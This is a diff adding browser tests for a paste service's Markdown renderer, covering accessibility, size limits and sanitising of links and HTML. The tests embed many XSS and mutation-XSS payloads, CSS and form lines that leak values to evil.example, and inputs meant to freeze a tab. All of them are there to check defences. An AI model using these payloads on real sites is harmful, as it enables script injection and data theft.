@@ -1,0 +1,242 @@
+import { describe, expect, it } from '@jest/globals';
+import type { Page } from 'playwright-core';
+import { startCluster } from '../../src/index.ts';
+import { isBrowserWanted, useBrowser, violationsOf } from './browser.ts';
+import { storePaste } from './store-paste.ts';
+
+const describeInBrowser = isBrowserWanted() ? describe : describe.skip;
+const KIB = 1024;
+
+const bed = useBrowser({ start: () => startCluster(), originOf: (cluster) => cluster.http().url });
+
+/** The page of a Markdown paste, as its source. */
+async function source(text: string, javaScriptEnabled = true): Promise<Page> {
+  const code = await storePaste(bed.cluster, text, { title: 'README.md' });
+  return await bed.open(`/${code}`, { javaScriptEnabled });
+}
+
+const asRendered = (page: Page) => page.getByRole('button', { name: 'Rendered' });
+
+/** The page of a Markdown paste, rendered. */
+async function rendered(text: string): Promise<Page> {
+  const page = await source(text);
+  await asRendered(page).click();
+  await page.locator('article.rendered').waitFor();
+  return page;
+}
+
+const markupOf = (page: Page) => page.locator('article.rendered').innerHTML();
+
+describeInBrowser('a Markdown paste', () => {
+  it('is source first, and rendered when the reader asks for it, also with the keyboard alone', async () => {
+    const page = await source('# Head\n\nSome *text*.\n');
+    const requested: string[] = [];
+    page.on('request', (request) => requested.push(new URL(request.url()).pathname));
+    expect(await page.locator('#content').innerText()).toContain('# Head');
+    await asRendered(page).focus();
+    expect(requested.filter((path) => path.includes('/markdown-worker-'))).toEqual([]); // the modules are loaded at the first wish
+    await page.keyboard.press('Enter');
+    await page.getByRole('heading', { name: 'Head', level: 2 }).waitFor();
+    expect(await page.locator('#content').isVisible()).toBe(false);
+    expect(await page.locator('article em').innerText()).toBe('text');
+    expect(requested.some((path) => path.includes('/assets/markdown-worker-'))).toBe(true);
+    await page.getByRole('button', { name: 'Source' }).press('Enter');
+    await page.locator('#content').waitFor();
+    expect(await page.locator('article.rendered').isVisible()).toBe(false);
+  });
+
+  it('keeps WCAG 2.2 AA and its width when it is rendered', async () => {
+    const cells = '| a long heading of a column '.repeat(20);
+    const text = `# One\n\n## Two\n\n- [x] task\n\n> quote\n\n\`code\` [link](https://a.example)\n\n${cells}|\n${'|-'.repeat(20)}|\n${cells}|\n\n\`\`\`\n${'x'.repeat(500)}\n\`\`\`\n\n${'y'.repeat(500)}`;
+    const code = await storePaste(bed.cluster, text, { syntax: 'markdown' });
+    for (const options of [
+      { colorScheme: 'light' },
+      { colorScheme: 'dark' },
+      { viewport: { width: 320, height: 640 } },
+    ] as const) {
+      const page = await bed.open(`/${code}`, options);
+      await asRendered(page).click();
+      await page.locator('article table').waitFor();
+      expect(await violationsOf(page)).toEqual([]);
+      expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBe(0);
+    }
+  });
+
+  it('of more than 256 KiB is source, with a note', async () => {
+    const page = await source('a line of text\n'.repeat(20_000));
+    await page.getByText('Markdown of more than 256 KiB is shown as source.').waitFor();
+    expect(await asRendered(page).count()).toBe(0);
+  });
+
+  it('is source without JavaScript', async () => {
+    const page = await source('# Head\n', false);
+    expect(await page.locator('#content').innerText()).toContain('# Head');
+    expect(await asRendered(page).isVisible()).toBe(false);
+  });
+
+  it('shows the lines of the address in its source', async () => {
+    const page = await rendered('# Head\n\ntext\n');
+    await page.evaluate(() => location.assign('#L3'));
+    await page.locator('#content').waitFor();
+  });
+
+  it('keeps the newline after a folded line', async () => {
+    const page = await rendered(`${'x'.repeat(30_000)}\n\nafter\n`);
+    expect(await page.locator('article p:not(.warning)').allInnerTexts()).toEqual([
+      'x'.repeat(30_000),
+      'after',
+    ]);
+  });
+});
+
+describeInBrowser('a link or an image of a Markdown paste', () => {
+  it.each([
+    ['[a](https://b.example)', '<a href="https://b.example" rel="noopener noreferrer nofollow ugc">a</a>'],
+    [
+      '<mailto:a@b.example>',
+      '<a href="mailto:a@b.example" rel="noopener noreferrer nofollow ugc">mailto:a@b.example</a>',
+    ],
+    [
+      '![cat](https://b.example/c.png)',
+      '<a href="https://b.example/c.png" rel="noopener noreferrer nofollow ugc">Image: cat</a>',
+    ],
+    ['<img src="https://b.example/c.png">', '&lt;img src="https://b.example/c.png"&gt;'],
+    [
+      '[![badge](https://b.example/c.svg)](https://d.example)',
+      '<a href="https://d.example" rel="noopener noreferrer nofollow ugc">Image: badge</a>',
+    ],
+    ['![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)', 'Image: dot'],
+  ])('leads elsewhere and loads nothing: %s', async (text, markup) => {
+    expect(await markupOf(await rendered(text))).toContain(markup);
+  });
+
+  it.each([
+    '[a](javascript:alert(1))',
+    '[a](JaVaScRiPt&colon;alert(1))',
+    '[a](java&#10;script:alert(1))',
+    '<a href="&#x1;javascript:alert(1)">a</a>',
+    '[a](data:text/html,<script>alert(1)</script>)',
+    '[a](vbscript:x)',
+    '[a](//b.example)',
+    '[a](/session/end)',
+    '[a](#main)',
+    '[a](blob:https://b.example/x)',
+    '<a xlink:href="https://b.example">a</a>',
+    '<a ping="https://b.example" download formaction=x>a</a>',
+  ])('is text when it would lead to a script or into this service: %s', async (text) => {
+    const page = await rendered(text);
+    expect(await page.locator('article a[href]').count()).toBe(0);
+    expect(await page.locator('article').innerText()).toContain('a');
+  });
+});
+
+/** Elements that only the page itself may have. */
+const FOREIGN =
+  'article :is(script, style, link, meta, base, iframe, object, embed, form, input, button, select, textarea, svg, math, img, video, audio, template, title, [id], [name], [class]:not(.scroll), [style], [onclick], [onerror], [onload])';
+
+describeInBrowser('a hostile Markdown paste', () => {
+  it.each([
+    ['a script', '<script>alert(1)</script>'],
+    ['a script in a heading', '# <script>alert(1)</script>'],
+    [
+      'event handlers',
+      '<b onclick=alert(1) onmouseover=alert(2)>a</b><details open ontoggle=alert(3)>b</details>',
+    ],
+    ['an image that fails', '<img src=x onerror=alert(1)>'],
+    [
+      'an SVG',
+      '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>a</text></a></svg>',
+    ],
+    ['a sheet of styles', '<style>*{display:none}body{background:url(https://evil.example/)}</style>'],
+    ['a style', '<p style="position:fixed;inset:0;background:url(https://evil.example/)">a</p>'],
+    [
+      'values leaked by selectors',
+      '<style>input[value^="a"]{background:url(https://evil.example/a)}</style><link rel=stylesheet href=https://evil.example/>',
+    ],
+    [
+      'a form',
+      '<form action=https://evil.example><input name=token><button formaction=javascript:alert(1)>a</button></form>',
+    ],
+    [
+      'ids of the page',
+      '<a id=main name=main>a</a><img name=body><div id=content class=content>b</div><p id=paste-status>c</p>',
+    ],
+    [
+      'names that hide properties',
+      '<form id=x><input name=attributes><input name=parentNode><img name=removeChild></form>',
+    ],
+    [
+      'a frame',
+      '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=javascript:alert(1)></object><embed src=javascript:alert(1)>',
+    ],
+    [
+      'a new base',
+      '<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">',
+    ],
+    [
+      'media',
+      '<video src=https://evil.example/ poster=https://evil.example/ onerror=alert(1)></video><audio src=x onerror=alert(1)>',
+    ],
+    ['the end of its element', '</article></main><script>alert(1)</script>'],
+    ['an open comment', '<!--><img src=x onerror=alert(1)>-->'],
+    ['a template', '<template><img src=x onerror=alert(1)></template>'],
+    // Markup that changes its meaning when it is written and read again (mutation XSS).
+    [
+      'mXSS by a style in MathML',
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    ],
+    ['mXSS by a style in SVG', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
+    ['mXSS by two forms', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
+    ['mXSS by noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
+    ['mXSS by listing', '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>'],
+    [
+      'mXSS by a title',
+      '<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></title></svg>',
+    ],
+    [
+      'mXSS by annotation-xml',
+      '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
+    ],
+    ['mXSS by depth', `${'<div>'.repeat(50)}<svg><style><a id="</style><img src=x onerror=alert(1)>">`],
+  ])('runs, loads and changes nothing: %s', async (_name, text) => {
+    const page = await rendered(`${text}\n\nthe end\n`);
+    expect(await page.locator(FOREIGN).count()).toBe(0);
+    expect(await page.evaluate(() => document.querySelector('main')?.id)).toBe('main');
+    expect(await page.evaluate(() => getComputedStyle(document.body).display)).toBe('flex');
+    await page.getByRole('button', { name: 'Source' }).click(); // the page still works
+    expect(await page.locator('#content').innerText()).toContain('the end');
+  });
+
+  it.each([
+    ['quotes', '>'.repeat(256 * KIB)],
+    ['lists', '+ '.repeat(128 * KIB)],
+    ['elements in each other', '<div>'.repeat(50_000)],
+    ['tables in each other', '<table><tr><td>'.repeat(17_000)],
+    ['emphasis without an end', '_a'.repeat(128 * KIB)],
+    [
+      'a table of billions of cells',
+      `${'|a'.repeat(20_000)}\n${'|-'.repeat(20_000)}\n${'|\n'.repeat(60_000)}`,
+    ],
+    ['a link that is used often', `[a]: http://x/${'y'.repeat(10_000)}\n\n${'[a]'.repeat(80_000)}`],
+  ])('does not freeze the tab, and is shown as source: %s', async (_name, text) => {
+    const page = await source(text.slice(0, 256 * KIB));
+    await asRendered(page).click();
+    await page.getByText('This text is too complex to be rendered.').waitFor();
+    expect(await page.locator('#content').isVisible()).toBe(true);
+  });
+
+  it.each([
+    ['many elements', '*a* '.repeat(49_000)],
+    ['elements in each other', `${'<div>'.repeat(60)}${'</div>'.repeat(60)}`.repeat(390)],
+    [
+      'tables in each other',
+      `${'<table><tr><td>'.repeat(60)}x${'</td></tr></table>'.repeat(60)}`.repeat(120),
+    ],
+    ['elements that nothing ends', '<p><b><i><u><s><em><strong><small><code>'.repeat(7)],
+    ['lists within bounds', Array.from({ length: 45 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n')],
+  ])('does not freeze the tab, and is rendered: %s', async (_name, text) => {
+    const page = await rendered(text);
+    await page.getByRole('button', { name: 'Source' }).click();
+    await page.locator('#content').waitFor();
+  });
+});
